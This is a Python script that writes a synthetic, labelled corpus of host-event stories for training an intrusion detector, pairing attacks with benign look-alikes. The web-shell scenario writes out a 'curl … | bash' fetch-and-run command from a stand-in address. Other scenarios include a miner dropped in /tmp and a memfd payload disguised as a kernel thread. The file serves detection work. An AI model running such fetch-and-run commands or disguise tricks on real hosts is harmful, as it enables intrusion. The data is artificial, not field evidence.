#!/usr/bin/env python3
"""Write the model's labelled scenario corpus (models/corpus/*.jsonl).

Each scenario is a small, explicit story of what a host did, in the JSONL event contract,
with a `# label:` header. Templates are varied by deterministic parameters (addresses,
users, paths, parents), so rerunning this script gives byte-identical files. The stories are
ours, written from how these attacks and these false positives look on real hosts; they are
synthetic, and the held-out evaluation on them measures fit to these stories, not field
precision. `innerwarden model train` replays them through the engine.
"""
import json
import os
import sys

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "models", "corpus")


def ts(base, sec):
    h, rem = divmod(base + sec, 3600)
    m, s = divmod(rem, 60)
    return f"2026-11-20T{h % 24:02d}:{m:02d}:{s:02d}.000Z"


def exec_ev(t, pid, ppid, uid, path, argv):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "exec", "pid": pid, "ppid": ppid,
            "uid": uid, "gid": uid, "comm": os.path.basename(path)[:15], "filename": path,
            "argv": argv, "argv_truncated": False, "cgroup_id": 0}


def fork_ev(t, parent, child, comm):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "fork", "parent_pid": parent,
            "child_pid": child, "comm": comm}


def exit_ev(t, pid):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "exit", "pid": pid, "code": 0}


def fail(t, user, src, port):
    return {"v": 1, "ts": t, "source": "journald", "kind": "auth_failure", "service": "sshd",
            "reason": "bad_credentials", "user": user, "src": src, "port": port, "pid": port,
            "count": 1}


def ok(t, user, src, port):
    return {"v": 1, "ts": t, "source": "journald", "kind": "auth_success", "service": "sshd",
            "user": user, "src": src, "port": port, "method": "password", "pid": port}


def write(name, label, comment, events, learning=False):
    path = os.path.join(OUT, name)
    with open(path, "w") as f:
        f.write(f"# {comment}\n# label: {label}\n")
        if learning:
            f.write("# learning: true\n")
        for e in events:
            f.write(json.dumps(e) + "\n")


def brute_unknown(i):
    src = f"203.0.113.{10 + i}"
    users = ["root", "admin", "oracle", "ubuntu", "test", "postgres"]
    n = 6 + (i * 3) % 14
    return [fail(ts(i * 100, k), users[(i + k) % len(users)], src, 40000 + k) for k in range(n)]


def brute_sustained(i):
    """Guessing that goes on past one window: two or three findings on one source."""
    src = f"192.0.2.{100 + i}"
    users = ["root", "admin", "git", "pi", "user", "support"]
    windows = 2 + i % 2
    ev = []
    for w in range(windows):
        ev += [fail(ts(i * 400, w * 70 + k * 2), users[(i + k + w) % len(users)], src, 42000 + w * 100 + k)
               for k in range(6 + (i + w) % 5)]
    return ev


def brute_known_admin(i):
    src = f"198.51.100.{20 + i}"
    user = ["alice", "bob", "carol", "dave", "erin", "frank"][i % 6]
    ev = [ok(ts(i * 100, k * 5), user, src, 50000 + k) for k in range(2 + i % 3)]
    base = 40 + 5 * (2 + i % 3)
    ev += [fail(ts(i * 100, base + k), user, src, 51000 + k) for k in range(5 + i % 3)]
    return ev


def web_shell(i):
    parent = ["/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/sbin/php-fpm8.2"][i % 3]
    uid = 33
    url = f"http://192.0.2.{50 + i}/x{i}.sh"
    return [
        exec_ev(ts(i * 50, 0), 900 + i, 1, 0, parent, [os.path.basename(parent)]),
        fork_ev(ts(i * 50, 1), 900 + i, 1900 + i, os.path.basename(parent)[:15]),
        exec_ev(ts(i * 50, 2), 1900 + i, 900 + i, uid, "/bin/sh",
                ["sh", "-c", f"curl -fsSL {url} | bash"]),
    ]


def db_tmp(i):
    parent = ["/usr/sbin/mysqld", "/usr/lib/postgresql/15/bin/postgres", "/usr/bin/redis-server"][i % 3]
    uid = [110, 111, 112][i % 3]
    drop = f"/tmp/.{['x', 'cache', 'ice'][i % 3]}{i}/kdevtmpfsi"
    return [
        exec_ev(ts(i * 50, 0), 700 + i, 1, uid, parent, [os.path.basename(parent)]),
        fork_ev(ts(i * 50, 1), 700 + i, 1700 + i, "sh"),
        exec_ev(ts(i * 50, 2), 1700 + i, 700 + i, uid, drop, ["kdevtmpfsi"]),
    ]


def memfd(i):
    return [
        exec_ev(ts(i * 50, 0), 600 + i, 1, 1000 + i, "/usr/bin/python3", ["python3", f"/home/u{i}/.cache/x.py"]),
        exec_ev(ts(i * 50, 2), 600 + i, 1, 1000 + i, f"/proc/self/fd/{3 + i % 4}", ["[kworker/0:1]"]),
    ]


def installer(i):
    """A human at an interactive login shell runs a vendor installer they run routinely."""
    user_uid = 1000 + i
    shell = 500 + 10 * i
    vendor = ["get.docker.com", "sh.rustup.rs", "deb.nodesource.com/setup_20.x", "install.python-poetry.org"][i % 4]
    ev = [exec_ev(ts(i * 300, 0), shell, 1, user_uid, "/usr/bin/bash", ["-bash"])]
    # Earlier runs of the same tools from the same shell: the habits the baseline has seen.
    for k in range(3):
        c = shell + 1 + k
        ev += [fork_ev(ts(i * 300, 10 + k * 60), shell, c, "bash"),
               exec_ev(ts(i * 300, 11 + k * 60), c, shell, user_uid, "/usr/bin/curl", ["curl", "-fsSL", f"https://{vendor}"]),
               exit_ev(ts(i * 300, 12 + k * 60), c)]
    ev.append(exec_ev(ts(i * 300, 250), shell + 9, shell, user_uid, "/usr/bin/sh",
                      ["sh", "-c", f"curl -fsSL https://{vendor} | sh"]))
    return ev


def build_tmp(i):
    """A developer's build runs configure test programs out of /tmp."""
    uid = 1000 + i
    shell = 300 + 20 * i
    ev = [exec_ev(ts(i * 300, 0), shell, 1, uid, "/usr/bin/bash", ["-bash"]),
          exec_ev(ts(i * 300, 1), shell + 1, shell, uid, "/usr/bin/make", ["make", "-j4"])]
    for k in range(3):
        ev.append(exec_ev(ts(i * 300, 10 + k), shell + 2 + k, shell + 1, uid, f"/tmp/build-{i}/conftest",
                          ["./conftest"]))
    return ev


def pkg_postinst(i):
    """apt/dpkg running a maintainer script it has run before, as root."""
    ev = [exec_ev(ts(i * 300, 0), 200 + i, 1, 0, "/usr/bin/dpkg", ["dpkg", "--configure", "-a"])]
    for k in range(3):
        ev.append(exec_ev(ts(i * 300, 10 + k * 30), 210 + 5 * i + k, 200 + i, 0,
                          f"/tmp/dpkg-{i}/postinst", ["postinst", "configure"]))
    return ev


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f.endswith(".jsonl"):
            os.remove(os.path.join(OUT, f))
    # Class balance follows what an exposed SSH port sees: password guessing from unknown
    # sources is common, an admin mistyping five times within a minute is not, and guessing
    # that lasts beyond one window is practically never a human. Some stories replay while the
    # baseline is still learning (no rarity), as on a freshly installed host.
    for i in range(12):
        write(f"malicious-bruteforce-unknown-{i:02d}.jsonl", "malicious",
              "SSH password guessing from a source that never logged in here.", brute_unknown(i),
              learning=(i % 4 == 3))
    for i in range(16):
        write(f"malicious-bruteforce-sustained-{i:02d}.jsonl", "malicious",
              "SSH password guessing from one source over several minutes.", brute_sustained(i),
              learning=(i % 4 != 0))
    for i in range(6):
        write(f"benign-admin-mistyped-{i:02d}.jsonl", "benign",
              "An admin who logs in from this address mistypes the password a few times.",
              brute_known_admin(i), learning=(i == 5))
    for i in range(8):
        write(f"malicious-webshell-{i:02d}.jsonl", "malicious",
              "A web server worker runs sh -c 'curl … | bash' (web shell).", web_shell(i))
        write(f"benign-installer-{i:02d}.jsonl", "benign",
              "A user at a login shell runs a vendor installer the host has seen before.",
              installer(i), learning=(i == 7))
    for i in range(6):
        write(f"malicious-db-dropper-{i:02d}.jsonl", "malicious",
              "A database server spawns a miner dropped in /tmp.", db_tmp(i))
        write(f"benign-build-conftest-{i:02d}.jsonl", "benign",
              "A developer's configure runs its test programs from /tmp.", build_tmp(i),
              learning=(i % 3 == 2))
    for i in range(5):
        write(f"malicious-memfd-{i:02d}.jsonl", "malicious",
              "A script fexecve()s a memfd payload disguised as a kernel thread.", memfd(i))
        write(f"benign-dpkg-postinst-{i:02d}.jsonl", "benign",
              "dpkg runs a maintainer script from its temporary directory.", pkg_postinst(i),
              learning=(i % 3 == 2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
